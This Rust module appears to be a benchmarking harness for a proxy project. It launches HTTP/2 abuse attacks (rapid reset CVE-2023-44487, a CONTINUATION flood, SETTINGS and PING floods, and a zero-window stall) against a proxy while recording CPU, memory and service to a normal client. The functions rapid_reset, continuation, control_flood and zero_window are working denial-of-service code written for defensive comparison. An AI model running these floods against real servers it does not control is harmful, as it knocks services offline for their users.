//! HTTP/2 abuse against any h2c proxy, for `load/h2-abuse`: the attacks of the
//! conformance cases `c_path_12_h2_*`, written with the same raw-frame client
//! ([`weir_conformance::h2raw`]), run against an address while the proxy's CPU time and peak RSS
//! are read over its process tree (nginx's master and workers summed) and a well-behaved HTTP/2
//! client sends requests beside the attack. It reports and never asserts: the conformance cases
//! hold weir's guarantees; this puts weir and nginx side by side (docs/benchmarks.md).

use std::collections::BTreeSet;
use std::fmt::Write as _;
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use bytes::Bytes;
use http_body_util::{BodyExt as _, Empty};
use hyper_util::rt::{TokioExecutor, TokioIo};
use weir_conformance::h2raw::{self, H2Raw, Seen, kind};

use crate::procfs;

/// One abuse case (the conformance case of the same name: `c_path_12_h2_<name>`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Case {
    /// 5,000 HEADERS + RST_STREAM pairs in one burst (CVE-2023-44487).
    RapidReset,
    /// HEADERS without END_HEADERS, then up to 10,000 CONTINUATION frames of 16 KiB.
    Continuation,
    /// 100,000 SETTINGS with the ACKs read, then 1,000,000 from a peer that reads nothing.
    SettingsFlood,
    /// The same with PING.
    PingFlood,
    /// `INITIAL_WINDOW_SIZE` 0 and 100 requests for a large response; then `WINDOW_UPDATE` 0.
    ZeroWindow,
}

/// What one case measured.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Report {
    /// CPU time (user + system) of the proxy's process tree during the case, milliseconds.
    pub cpu_ms: u64,
    /// Summed RSS of the tree before the case, KiB.
    pub rss_before_kib: u64,
    /// Highest summed RSS seen (every 10 ms), KiB.
    pub rss_peak_kib: u64,
    /// How the abusive connection ended.
    pub ending: String,
    /// Requests of the well-behaved client answered `200` with the whole body.
    pub others_ok: u32,
    /// Requests it sent.
    pub others_sent: u32,
    /// Case-specific details (frames seen, bytes written).
    pub detail: String,
}

impl Report {
    /// The `RESULT` line load/h2-abuse collects (tab-separated).
    pub fn line(&self, case: Case, label: &str) -> String {
        format!(
            "RESULT\t{}\t{label}\t{}\t{}\t{}\t{}\t{}/{}\t{}",
            case_name(case),
            self.cpu_ms,
            self.rss_before_kib,
            self.rss_peak_kib,
            self.ending,
            self.others_ok,
            self.others_sent,
            self.detail
        )
    }
}

/// The case's name on the command line and in the table.
pub fn case_name(case: Case) -> &'static str {
    match case {
        Case::RapidReset => "rapid-reset",
        Case::Continuation => "continuation",
        Case::SettingsFlood => "settings-flood",
        Case::PingFlood => "ping-flood",
        Case::ZeroWindow => "zero-window",
    }
}

/// An HTTP/2 error code by name (RFC 9113 §7).
pub fn error_name(code: u32) -> String {
    const NAMES: [&str; 14] = [
        "NO_ERROR",
        "PROTOCOL_ERROR",
        "INTERNAL_ERROR",
        "FLOW_CONTROL_ERROR",
        "SETTINGS_TIMEOUT",
        "STREAM_CLOSED",
        "FRAME_SIZE_ERROR",
        "REFUSED_STREAM",
        "CANCEL",
        "COMPRESSION_ERROR",
        "CONNECT_ERROR",
        "ENHANCE_YOUR_CALM",
        "INADEQUATE_SECURITY",
        "HTTP_1_1_REQUIRED",
    ];
    usize::try_from(code)
        .ok()
        .and_then(|i| NAMES.get(i))
        .map_or_else(|| format!("0x{code:x}"), |n| (*n).to_owned())
}

/// How a connection ended, from what was read: `GOAWAY(code)`, closed without one, or open.
pub fn ending(seen: &Seen) -> String {
    match (seen.goaway, seen.closed) {
        (Some(code), _) => format!("GOAWAY({})", error_name(code)),
        (None, true) => "closed, no GOAWAY".to_owned(),
        (None, false) => "open".to_owned(),
    }
}

type BoxError = Box<dyn std::error::Error + Send + Sync>;

/// Runs `case` against the proxy at `addr` whose process tree is rooted at `pid`; `big_path` is
/// a path the backend answers with a large body (the zero-window case).
///
/// # Errors
/// The proxy process is gone, or the first connection failed.
pub async fn run(
    case: Case,
    addr: SocketAddr,
    pid: u32,
    big_path: &str,
) -> Result<Report, BoxError> {
    let meter = Meter::start(pid)?;
    let stop = Arc::new(AtomicBool::new(false));
    let others = tokio::spawn(others(addr, Arc::clone(&stop)));
    let outcome = match case {
        Case::RapidReset => rapid_reset(addr).await,
        Case::Continuation => continuation(addr).await,
        Case::SettingsFlood => control_flood(addr, h2raw::settings(&[]), kind::SETTINGS).await,
        Case::PingFlood => {
            control_flood(addr, h2raw::frame(kind::PING, 0, 0, &[7; 8]), kind::PING).await
        }
        Case::ZeroWindow => zero_window(addr, big_path).await,
    };
    stop.store(true, Ordering::Relaxed);
    let (others_ok, others_sent) = others.await.unwrap_or((0, 0));
    let (cpu_ms, rss_before_kib, rss_peak_kib) = meter.finish();
    let (ending, detail) = outcome?;
    Ok(Report {
        cpu_ms,
        rss_before_kib,
        rss_peak_kib,
        ending,
        others_ok,
        others_sent,
        detail,
    })
}

/// CPU ticks at the start, and a thread sampling the tree's RSS every 10 ms (the set of pids
/// re-read every 0.5 s, so that a respawned nginx worker is counted).
struct Meter {
    root: u32,
    cpu_before: u64,
    rss_before: u64,
    stop: Arc<AtomicBool>,
    sampler: std::thread::JoinHandle<u64>,
}

impl Meter {
    fn start(root: u32) -> Result<Meter, BoxError> {
        let (rss_before, _) = procfs::tree_rss_bytes(root);
        if rss_before == 0 {
            return Err(format!("no such process (or no RSS): {root}").into());
        }
        let stop = Arc::new(AtomicBool::new(false));
        let s = Arc::clone(&stop);
        let sampler = std::thread::spawn(move || {
            let mut peak = rss_before;
            let mut pids = BTreeSet::new();
            for i in 0u64.. {
                if s.load(Ordering::Relaxed) {
                    break;
                }
                if i % 50 == 0 {
                    pids = procfs::descendants(&procfs::process_table(), root);
                }
                peak = peak.max(pids.iter().filter_map(|&p| procfs::rss_bytes(p)).sum());
                std::thread::sleep(Duration::from_millis(10));
            }
            peak
        });
        Ok(Meter {
            root,
            cpu_before: procfs::tree_cpu_ticks(root),
            rss_before,
            stop,
            sampler,
        })
    }

    /// (CPU ms, RSS before KiB, RSS peak KiB).
    fn finish(self) -> (u64, u64, u64) {
        let ticks = procfs::tree_cpu_ticks(self.root).saturating_sub(self.cpu_before);
        self.stop.store(true, Ordering::Relaxed);
        let peak = self.sampler.join().unwrap_or(self.rss_before);
        (
            ticks * 1000 / procfs::CLOCK_TICKS_PER_SECOND,
            self.rss_before / 1024,
            peak / 1024,
        )
    }
}

/// The well-behaved client: a `GET /other` over a new HTTP/2 (prior knowledge) connection every
/// 250 ms until stopped, each given 5 s; returns (answered 200 with a body, sent).
async fn others(addr: SocketAddr, stop: Arc<AtomicBool>) -> (u32, u32) {
    let (mut ok, mut sent) = (0, 0);
    while !stop.load(Ordering::Relaxed) {
        sent += 1;
        if let Ok(Ok(true)) = tokio::time::timeout(Duration::from_secs(5), h2_get(addr)).await {
            ok += 1;
        }
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
    (ok, sent)
}

async fn h2_get(addr: SocketAddr) -> Result<bool, BoxError> {
    let stream = tokio::net::TcpStream::connect(addr).await?;
    let (mut send, conn) =
        hyper::client::conn::http2::handshake(TokioExecutor::new(), TokioIo::new(stream)).await?;
    tokio::spawn(conn);
    let req = hyper::Request::get(format!("http://{addr}/other")).body(Empty::<Bytes>::new())?;
    let resp = send.send_request(req).await?;
    let status = resp.status();
    let body = resp.into_body().collect().await?.to_bytes();
    Ok(status == hyper::StatusCode::OK && !body.is_empty())
}

type Outcome = Result<(String, String), BoxError>;

async fn rapid_reset(addr: SocketAddr) -> Outcome {
    let mut c = H2Raw::connect(addr, &[]).await?;
    let mut burst = Vec::new();
    for i in 0..5000u32 {
        burst.extend(h2raw::get(2 * i + 1, "/reset"));
        burst.extend(h2raw::rst(2 * i + 1, h2raw::CANCEL));
    }
    let writer = c.flood(burst, 1);
    let seen = c.read_until_goaway(Duration::from_secs(15)).await;
    writer.abort();
    let detail = format!(
        "{} response HEADERS, {} RST_STREAM before the end",
        seen.frames[usize::from(kind::HEADERS)],
        seen.frames[usize::from(kind::RST_STREAM)]
    );
    Ok((ending(&seen), detail))
}

async fn continuation(addr: SocketAddr) -> Outcome {
    let mut c = H2Raw::connect(addr, &[]).await?;
    // A literal header with a new name and a value (16 MiB long) that never ends.
    let mut block = h2raw::get_block("/cont");
    block.extend_from_slice(&[0x00, 0x01, b'x', 0x7f, 0xff, 0xff, 0xff, 0x07]);
    c.write(&h2raw::frame(kind::HEADERS, h2raw::END_STREAM, 1, &block))
        .await?;
    let cont = h2raw::frame(kind::CONTINUATION, 0, 1, &[b'a'; 16 * 1024]);
    let writer = c.flood(cont, 10_000);
    let seen = c.read_until_goaway(Duration::from_secs(15)).await;
    let written = match tokio::time::timeout(Duration::from_secs(2), writer).await {
        Ok(Ok(n)) if n < 10_000 => format!("writes failed after {} KiB", n * 16),
        Ok(Ok(_)) => "all 160 MiB written".to_owned(),
        _ => "writes blocked (the server stopped reading)".to_owned(),
    };
    Ok((ending(&seen), written))
}

/// Adds `s`'s frame counts and bytes to `total` and keeps the first GOAWAY / close.
fn merge(total: &mut Seen, s: &Seen) {
    for (a, b) in total.frames.iter_mut().zip(s.frames) {
        *a += b;
    }
    total.bytes += s.bytes;
    total.goaway = total.goaway.or(s.goaway);
    total.closed |= s.closed;
}

/// 100,000 control frames while the ACKs are read (at most 30 s), then 1,000,000 from a peer
/// that reads nothing (at most 20 s; what it was sent is read afterwards, for a GOAWAY).
async fn control_flood(addr: SocketAddr, frame: Vec<u8>, ack_kind: u8) -> Outcome {
    let mut c = H2Raw::connect(addr, &[]).await?;
    let writer = c.flood(frame.repeat(1000), 100);
    let mut seen = Seen::default();
    let start = Instant::now();
    loop {
        let done = writer.is_finished();
        let s = c
            .read_until_goaway(Duration::from_millis(if done { 500 } else { 200 }))
            .await;
        merge(&mut seen, &s);
        if done || s.goaway.is_some() || s.closed || start.elapsed() > Duration::from_secs(30) {
            break;
        }
    }
    let sent = if writer.is_finished() {
        writer.await.unwrap_or(0) * 1000
    } else {
        writer.abort();
        0
    };
    let mut detail = format!(
        "reading peer: {} of 100000 written, {} ACKs",
        sent,
        seen.frames[usize::from(ack_kind)]
    );
    let reading = ending(&seen);

    let mut silent = H2Raw::connect(addr, &[]).await?;
    let started = Instant::now();
    let flood = silent.flood(frame.repeat(1000), 1000);
    let abort = flood.abort_handle();
    let silent_end = match tokio::time::timeout(Duration::from_secs(20), flood).await {
        Ok(Ok(n)) => {
            let _ = write!(
                detail,
                "; silent peer: writes failed after {}k frames, {:.1} s",
                n,
                started.elapsed().as_secs_f64()
            );
            ending(&silent.wait_closed(Duration::from_secs(5)).await)
        }
        _ => {
            abort.abort();
            detail.push_str("; silent peer: still writable after 20 s");
            "open".to_owned()
        }
    };
    Ok((format!("reading: {reading}; silent: {silent_end}"), detail))
}

async fn zero_window(addr: SocketAddr, big_path: &str) -> Outcome {
    let mut c = H2Raw::connect(addr, &[(0x4, 0)]).await?;
    let mut burst = Vec::new();
    for i in 0..100u32 {
        burst.extend(h2raw::get(2 * i + 1, big_path));
    }
    c.write(&burst).await?;
    // The stall: the proxy has the responses' HEADERS and the backend's bodies, no window.
    let stalled = c.read_until_goaway(Duration::from_secs(5)).await;
    let detail = format!(
        "during 5 s stalled: {} HEADERS, {} DATA",
        stalled.frames[usize::from(kind::HEADERS)],
        stalled.frames[usize::from(kind::DATA)]
    );
    if stalled.goaway.is_some() || stalled.closed {
        return Ok((format!("{} during the stall", ending(&stalled)), detail));
    }
    let zero = h2raw::frame(kind::WINDOW_UPDATE, 0, 0, &0u32.to_be_bytes());
    c.write(&zero).await?;
    let seen = c.wait_closed(Duration::from_secs(10)).await;
    Ok((format!("after WINDOW_UPDATE 0: {}", ending(&seen)), detail))
}

#[cfg(test)]
mod tests;
